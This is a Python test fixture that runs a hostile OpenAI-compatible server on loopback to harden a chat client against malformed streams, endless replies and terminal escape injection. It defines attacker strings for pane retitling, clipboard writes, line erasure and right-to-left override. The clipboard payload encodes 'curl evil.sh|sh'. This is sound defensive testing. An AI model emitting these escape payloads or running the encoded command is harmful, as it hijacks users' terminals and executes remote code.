"""A small hostile OpenAI-compatible server on loopback, for client-mode hardening tests.

Each test describes what the server answers; the server speaks raw HTTP/1.1 over a real socket,
so it can send what a well-behaved framework never would (escape sequences in model ids and
error bodies, endless streams, lines without ends, one byte at a time).

    with HostileServer(models=[{"id": "evil\\x1b]0;x\\x07"}], chat=stream_of(["Hi"])) as url:
        ...  # url is http://127.0.0.1:PORT/v1

Answers are iterables of byte strings written as they come (a generator may be endless), with
`Pause(seconds)` items to wait between them; status RAW writes the bytes as they are, status line
and headers included (to trickle or garble them). `bytes_sent` counts what went out and
`closed_early` says the client hung up: tests assert on those, not on wall time. Leaving the
`with` block stops every answer still being written (pauses included) within ~0.1 s.
"""

from __future__ import annotations

import json
import shutil
import socket
import ssl
import subprocess
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Callable, Iterable, Iterator


@dataclass(frozen=True)
class Pause:
    """In an answer's chunks: wait this long before the next one (cut short when the test ends)."""

    seconds: float


Chunk = bytes | Pause
RAW = 0  # an answer "status" meaning: no status line or headers of ours, the chunks are all of it
# A chat handler gets the parsed request body and returns (status, headers, body chunks).
ChatAnswer = tuple[int, dict, Iterable[Chunk]]
ChatHandler = Callable[[dict], ChatAnswer]

# What an attacker puts in strings: retitle the pane (OSC 0), write the clipboard (OSC 52),
# erase the current line (CSI 2K + CR), and a right-to-left override.
OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # base64 of "curl evil.sh|sh"
ERASE_LINE = "\x1b[2K\r"
RLO = "\u202e"
EVIL = OSC_TITLE + OSC_CLIPBOARD + ERASE_LINE + RLO


def sse_chunk(payload: dict | str) -> bytes:
    data = payload if isinstance(payload, str) else json.dumps(payload)
    return f"data: {data}\n\n".encode()


def text_chunk(text: str, finish: str | None = None) -> bytes:
    return sse_chunk({"object": "chat.completion.chunk",
                      "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}]})


def stream_of(pieces: list[str], *, tail: Iterable[bytes] = (sse_chunk("[DONE]"),)) -> ChatHandler:
    """A well-formed streamed reply of `pieces`, then `tail`."""

    def handler(_body: dict) -> ChatAnswer:
        chunks = [text_chunk(p) for p in pieces] + [text_chunk("", "stop"), *tail]
        return 200, {"Content-Type": "text/event-stream"}, chunks

    return handler


def error_reply(status: int, message: str) -> ChatHandler:
    def handler(_body: dict) -> ChatAnswer:
        body = json.dumps({"error": {"message": message, "type": "invalid_request_error"}}).encode()
        return status, {"Content-Type": "application/json"}, [body]

    return handler


class HostileServer:
    """Serve `models` at /v1/models (or `models_answer` = (status, body bytes or chunks)) and
    `chat` at /v1/chat/completions. Records each chat request body in `requests`. With `tls`
    = (certificate file, key file) it speaks HTTPS (see `self_signed`)."""

    def __init__(self, models: list[dict] | None = None, chat: ChatHandler | None = None,
                 models_answer: tuple[int, bytes | Iterable[Chunk]] | None = None,
                 tls: tuple[str, str] | None = None) -> None:
        self.models = models if models is not None else [{"id": "m", "object": "model"}]
        self.chat = chat or stream_of(["Hello"])
        self.models_answer = models_answer
        self.requests: list[dict] = []
        self.closed_early = threading.Event()  # the client hung up during a streamed answer
        self.stopping = threading.Event()  # the test is over: stop writing, stop pausing
        self.bytes_sent = 0  # body bytes written (or everything, for RAW answers)
        self._count_lock = threading.Lock()
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:  # quiet
                pass

            def _send(self, status: int, headers: dict, chunks: Iterable[Chunk]) -> None:
                if status != RAW:
                    self.send_response(status)
                    for k, v in headers.items():
                        self.send_header(k, v)
                    self.send_header("Connection", "close")
                    self.end_headers()
                try:
                    for chunk in chunks:
                        if server.stopping.is_set():
                            break
                        if isinstance(chunk, Pause):
                            server.stopping.wait(chunk.seconds)
                            continue
                        self.wfile.write(chunk)
                        self.wfile.flush()
                        with server._count_lock:
                            server.bytes_sent += len(chunk)
                except (BrokenPipeError, ConnectionResetError):
                    server.closed_early.set()
                self.close_connection = True

            def do_GET(self) -> None:
                if self.path.rstrip("/").endswith("/models"):
                    if server.models_answer is not None:
                        status, body = server.models_answer
                        self._send(status, {"Content-Type": "application/json"},
                                   [body] if isinstance(body, bytes) else body)
                        return
                    body = json.dumps({"object": "list", "data": server.models}).encode()
                    self._send(200, {"Content-Type": "application/json"}, [body])
                    return
                self._send(404, {"Content-Type": "text/plain"}, [b"not found"])

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                raw = self.rfile.read(length) if length else b""
                try:
                    body = json.loads(raw or b"{}")
                except ValueError:
                    body = {}
                server.requests.append(body)
                if self.path.rstrip("/").endswith("/chat/completions"):
                    self._send(*server.chat(body))
                    return
                self._send(404, {"Content-Type": "text/plain"}, [b"not found"])

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self.port = self._httpd.server_address[1]
        self.url = f"{'https' if tls else 'http'}://127.0.0.1:{self.port}/v1"
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*tls)
            self._httpd.socket = context.wrap_socket(self._httpd.socket, server_side=True)
        self._thread = threading.Thread(target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05},
                                        daemon=True)

    def __enter__(self) -> str:
        self._thread.start()
        return self.url

    def __exit__(self, *exc) -> None:
        self.stopping.set()
        self._httpd.shutdown()
        self._httpd.server_close()


def endless(chunk: bytes, limit: int | None = None) -> Iterator[bytes]:
    """The same chunk forever (until the client hangs up), or until `limit` bytes went out:
    a limit keeps a test bounded in time even against a client that reads everything."""
    sent = 0
    while limit is None or sent < limit:
        yield chunk
        sent += len(chunk)


def trickle(data: bytes, every: float) -> Iterator[Chunk]:
    """`data` one byte at a time, `every` seconds apart: each read gets a byte in time, so only
    a deadline counted in complete events (not a per-read timeout) can end it."""
    for i in range(len(data)):
        yield data[i:i + 1]
        yield Pause(every)


def answer(status: int, chunks: Iterable[Chunk], content_type: str = "text/event-stream") -> ChatHandler:
    """A chat handler that always answers `status` with `chunks` (built once, so a generator is
    consumed by the first request only)."""

    def handler(_body: dict) -> ChatAnswer:
        return status, {"Content-Type": content_type}, chunks

    return handler


def self_signed(folder: Path) -> tuple[str, str] | None:
    """A certificate for 127.0.0.1 and its key, made by the openssl command (None without it).
    A client trusts it with ssl.create_default_context(cafile=certificate)."""
    if shutil.which("openssl") is None:
        return None
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                    "-nodes", "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
                    "-addext", "subjectAltName=IP:127.0.0.1"], check=True, capture_output=True, timeout=30)
    return str(cert), str(key)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]
